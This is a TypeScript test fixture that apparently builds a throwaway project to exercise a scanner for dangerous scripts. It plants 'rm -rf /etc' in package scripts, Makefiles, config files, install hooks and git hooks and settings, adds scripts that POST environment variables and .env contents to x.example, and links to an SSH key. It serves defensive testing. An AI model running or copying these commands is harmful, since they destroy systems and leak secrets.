import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { type Project, throwawayProject } from '../project.ts'

const burn = 'rm -rf /etc'
const burnJavaScript = `require('child_process').execSync('${burn}')\n`
const burnModule = `import { execSync } from 'node:child_process'\nexecSync('${burn}')\nexport default {}\n`
const burnPython = `import os\nos.system("${burn}")\n`

/** Files that lie about their names, and the same without the lie; committed. */
const files: Readonly<Record<string, string>> = {
  'package.json': JSON.stringify({
    name: 'shop',
    scripts: {
      test: 'vitest run',
      build: 'tsc -p .',
      clean: 'rm -rf dist',
      dev: 'vite',
      burn,
      ordinary: 'npm run burn',
      'db:reset': 'node scripts/tool.js',
    },
    devDependencies: { vitest: '1.0.0', typescript: '5.0.0', eslint: '9.0.0', vite: '6.0.0', prettier: '3.0.0', prisma: '6.0.0' },
  }),
  'composer.json': JSON.stringify({ scripts: { check: 'phpunit', burn } }),
  'deno.json': JSON.stringify({ tasks: { check: 'deno lint', burn } }),
  'pyproject.toml': `[project]\nname = "shop"\ndependencies = ["pytest", "ruff"]\n[tool.poe.tasks]\ncheck = "pytest"\nburn = "${burn}"\n`,
  justfile: `check:\n    npm test\nburn:\n    ${burn}\nindirect: burn\n    ls\n`,
  Makefile: `PLACE = /etc\nTARGET = dist\nbuild:\n\techo build\nclean:\n\trm -rf dist\nburn:\n\t${burn}\nall: build burn\nwipe-it:\n\trm -rf $(PLACE)\nshow:\n\techo $(NAME)\nremove:\n\trm -rf $(TARGET)\nnuke:\n\techo x\n`,
  'sub/Makefile': `burn:\n\t${burn}\n`,
  'compose.yaml': 'services:\n  web:\n    image: alpine\n    volumes:\n      - ./src:/src\n',
  'compose/clean.yaml': 'services:\n  web:\n    image: alpine\n',
  'compose/privileged.yaml': 'services:\n  web:\n    image: alpine\n    privileged: true\n',
  'compose/host-network.yaml': 'services:\n  web:\n    image: alpine\n    network_mode: host\n',
  'compose/host-pid.yaml': 'services:\n  web:\n    image: alpine\n    pid: host\n',
  'compose/mounts-outside.yaml': 'services:\n  web:\n    image: alpine\n    volumes:\n      - /opt/x:/x\n',
  'compose/socket.yaml': 'services:\n  web:\n    image: alpine\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n',
  'manage.py': 'from django.core.management import execute_from_command_line\nexecute_from_command_line()\n',
  'changed.txt': 'before\n',
  'chart/Chart.yaml': 'name: shop\n',
  'scripts/burn.sh': `#!/bin/sh\n${burn}\n`,
  'scripts/calls.sh': '#!/bin/sh\n. ./scripts/burn.sh\n',
  'scripts/clean.sh': 'rm -rf dist\n',
  'scripts/burn-python': `#!/usr/bin/env python3\n${burnPython}`,
  'scripts/burn-node': `#!/usr/bin/env node\n${burnJavaScript}`,
  'scripts/burn.js': burnJavaScript,
  'scripts/burn.ts': burnModule,
  'scripts/burn.py': burnPython,
  'scripts/burn.rb': `system("${burn}")\n`,
  'scripts/burn.php': `<?php\nshell_exec("${burn}");\n`,
  'scripts/burn.pl': `system("${burn}");\n`,
  'scripts/burn.go': `package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("sh", "-c", "${burn}").Run()\n}\n`,
  'scripts/tool.js': 'console.log(1)\n',
  'scripts/drop-all.js': 'console.log(1)\n',
  'scripts/deletes-outside.js': "require('fs').rmSync('/etc', { recursive: true })\n",
  'scripts/writes-sibling.py': 'open("../sibling.txt", "w").write("x")\n',
  'scripts/deletes-rows.py': 'import sqlite3\nsqlite3.connect("app.db").execute("DELETE FROM users")\n',
  'scripts/drops-database.py': 'import psycopg2\npsycopg2.connect("").cursor().execute("DROP DATABASE shop")\n',
  'scripts/sends-environment.js': "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })\n",
  'scripts/sends-key.py': 'import requests\nrequests.post("https://x.example", data=open(".env").read())\n',
  // so deep that a run of all tests from the root does not come to it
  'scan/python/conftest/conftest.py': burnPython,
  'scan/python/conftest/test_a.py': 'def test_a():\n    assert True\n',
  'scan/setup/setup.py': `${burnPython}from setuptools import setup\nsetup()\n`,
  'scan/rust/build-rs/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\n',
  'scan/rust/build-rs/build.rs':
    'use std::process::Command;\nfn main() {\n    Command::new("rm").args(["-rf", "/etc"]).status().unwrap();\n}\n',
  'scan/rust/build-rs/src/main.rs': 'fn main() {}\n',
  'scan/vite/vite.config.ts': burnModule,
  'scan/jest/jest.config.js': burnJavaScript,
  'scan/prettier/.prettierrc.cjs': burnJavaScript,
  'scan/eslint/.eslintrc.cjs': burnJavaScript,
  'scan/generate/gen.go': `package gen\n\n//go:generate ${burn}\n`,
  'scan/gradle/gradlew': `#!/bin/sh\n${burn}\n`,
  'scan/maven/mvnw': `#!/bin/sh\n${burn}\n`,
  'scan/lifecycle/package.json': JSON.stringify({ name: 'l', scripts: { postinstall: burn } }),
  'scan/lifecycle/package-lock.json': '{}\n',
  'scan/lifecycle-file/package.json': JSON.stringify({ name: 'l', scripts: { preinstall: 'node ../../scripts/burn.js' } }),
  'scan/lifecycle-file/package-lock.json': '{}\n',
  'scan/rake/Rakefile': `task :build do\n  sh "${burn}"\nend\n`,
  'scan/padded/vite.config.ts': `${burnModule}${'// padding\n'.repeat(7000)}`,
  'scan/clean/conftest.py': 'import pytest\n',
  'scan/clean/vite.config.ts': 'export default {}\n',
}

/** Code that a tool runs without being told to, each in a folder named like it. */
const implied: Readonly<Record<string, string>> = {
  'jest.config.ts': burnModule,
  'vitest.config.mts': burnModule,
  'webpack.config.js': burnJavaScript,
  'rollup.config.mjs': burnModule,
  'next.config.js': burnJavaScript,
  'babel.config.js': burnJavaScript,
  '.babelrc.js': burnJavaScript,
  'postcss.config.js': burnJavaScript,
  'playwright.config.ts': burnModule,
  '.mocharc.cjs': burnJavaScript,
  'eslint.config.mjs': burnModule,
  '.prettierrc.mjs': burnModule,
  'stylelint.config.js': burnJavaScript,
  '.eleventy.js': burnJavaScript,
  'drizzle.config.ts': burnModule,
  'gulpfile.js': burnJavaScript,
  'noxfile.py': burnPython,
  'manage.py': burnPython,
  'gunicorn.conf.py': burnPython,
  SConstruct: burnPython,
  'tests/conftest.py': burnPython,
  Gemfile: `system("${burn}")\n`,
  Guardfile: `system("${burn}")\n`,
  'shop.gemspec': `system("${burn}")\n`,
  'spec/spec_helper.rb': `system("${burn}")\n`,
  '.envrc': `${burn}\n`,
  configure: `#!/bin/sh\n${burn}\n`,
  'src/main.rs': 'fn main() {\n    std::process::Command::new("rm").arg("-rf").arg("/etc").status().unwrap();\n}\n',
}

/** Files that git does not know. */
const untracked: Readonly<Record<string, string>> = {
  'changed.txt': 'after\n',
  'debug.log': 'x\n',
  '.venv/bin/activate': 'export VIRTUAL_ENV=x\n',
}

/** Repositories inside the project whose own settings or hooks run something. */
const repositories: Readonly<
  Record<string, { readonly settings?: readonly (readonly [string, string])[]; readonly files?: Readonly<Record<string, string>> }>
> = {
  hooked: { files: { '.git/hooks/pre-commit': `#!/bin/sh\n${burn}\n`, '.git/hooks/pre-push': `#!/bin/sh\n${burn}\n` } },
  monitored: { settings: [['core.fsmonitor', burn]] },
  paths: { settings: [['core.hooksPath', 'own']], files: { 'own/pre-commit': `#!/bin/sh\n${burn}\n` } },
  paged: { settings: [['core.pager', burn]] },
  differs: { settings: [['diff.external', burn]] },
  filters: { settings: [['filter.x.clean', burn]], files: { '.gitattributes': '* filter=x\n', 'note.txt': 'x\n' } },
}

/** Files of somebody else's, beside the project. */
const foreign =
  'file.txt inner/file.txt Makefile package.json pytest.ini eslint.config.js prettierrc.js vitest.config.ts vite.config.ts jest.config.js webpack.config.js tsconfig.json Cargo.toml config.toml go.mod init.gradle pom.xml Gemfile site.yml env.sh config conf keys x x.js x.mjs x.py x.jar x.so'.split(
    ' ',
  )

const identity = ['-c', 'user.name=a', '-c', 'user.email=a@example.test', '-c', 'commit.gpgsign=false']

function fill(folder: string, all: Readonly<Record<string, string>>): void {
  for (const [name, text] of Object.entries(all)) {
    const path = join(folder, name)
    mkdirSync(dirname(path), { recursive: true })
    writeFileSync(path, text)
    if (text.startsWith('#!')) chmodSync(path, 0o755)
  }
}

/** For tests: the throwaway project with every kind of script, config and project code that the issue names. */
export function claimsProject(): Project {
  const project = throwawayProject()
  const git = (folder: string, ...words: readonly string[]): void => {
    execFileSync('git', ['-C', folder, ...words], { stdio: 'ignore' })
  }
  fill(project.root, files)
  for (const [name, text] of Object.entries(implied)) fill(join(project.root, 'implied', name.replaceAll('/', '-')), { [name]: text })
  git(project.root, 'add', '-f', '--', 'implied', ...Object.keys(files))
  git(project.root, ...identity, 'commit', '-qm', 'claims')
  git(project.root, 'config', 'alias.st', 'status')
  git(project.root, 'config', 'alias.burn', `!${burn}`)
  fill(project.root, untracked)
  for (const [name, { settings = [], files: own = {} }] of Object.entries(repositories)) {
    const folder = join(project.root, name)
    mkdirSync(folder)
    git(folder, 'init', '-qb', 'topic')
    fill(folder, own)
    for (const [key, value] of settings) git(folder, 'config', key, value)
  }
  const outside = join(project.home, 'code/outside')
  fill(outside, Object.fromEntries(foreign.map((name) => [name, '\n'])))
  symlinkSync(outside, join(project.root, 'out'))
  symlinkSync(join(project.home, '.ssh/id_rsa'), join(project.root, 'node_modules/out-key'))
  fill(join(project.home, 'code/work'), { 'sibling/file.txt': 'x\n', 'shop-evil/file.txt': 'x\n' })
  return project
}
